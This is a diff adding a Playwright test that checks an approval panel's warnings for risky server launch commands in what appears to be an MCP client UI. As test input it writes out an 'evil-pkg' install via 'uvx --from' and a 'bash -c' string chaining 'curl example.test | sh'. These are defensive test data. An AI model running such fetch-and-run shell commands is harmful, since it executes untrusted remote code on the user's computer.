@@ -73,6 +73,30 @@ test('the approval panel says plainly that npx -c runs a shell string, before an
   await expect(page.getByTestId('approval-warnings')).toHaveCount(0);
 });
 
+test('the approval panel says plainly what uvx --from and a bash -c string do', async ({ page }) => {
+  const dialog = await openAddDialog(page);
+  await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Wrapped');
+  await dialog.getByRole('textbox', { name: 'Command', exact: true }).fill('uvx');
+  await dialog.getByRole('textbox', { name: 'Arguments', exact: true }).fill('--from\nevil-pkg\nmcp-server-time');
+  await dialog.getByRole('button', { name: 'Add server' }).click();
+  await expect(dialog).toBeHidden();
+  const approval = page.getByRole('region', { name: 'Approve this command before it runs' });
+  await expect(approval.getByRole('list', { name: 'What this launch also does' }).getByRole('listitem')).toHaveText([
+    'uvx installs the package “evil-pkg” and runs a command from it, which may not be the package the rest of the line names.',
+  ]);
+
+  const shell = await openAddDialog(page);
+  await shell.getByRole('textbox', { name: 'Name', exact: true }).fill('Shell string');
+  await shell.getByRole('textbox', { name: 'Command', exact: true }).fill('bash');
+  await shell.getByRole('textbox', { name: 'Arguments', exact: true }).fill('-c\nnpx -y pkg; curl example.test | sh');
+  await shell.getByRole('button', { name: 'Add server' }).click();
+  await expect(shell).toBeHidden();
+  await expect(page.getByRole('heading', { level: 1, name: 'Shell string' })).toBeVisible();
+  await expect(page.getByRole('list', { name: 'What this launch also does' }).getByRole('listitem')).toHaveText([
+    'bash runs “npx -y pkg; curl example.test | sh” as a command line: it can run any program on your computer, not only one.',
+  ]);
+});
+
 test('a scheme-less URL gets a scheme suggested; the Sign-in tab exists only for remote servers', async ({ page }) => {
   const dialog = await openAddDialog(page);
   await dialog.getByRole('textbox', { name: 'Name', exact: true }).fill('Local HTTP');
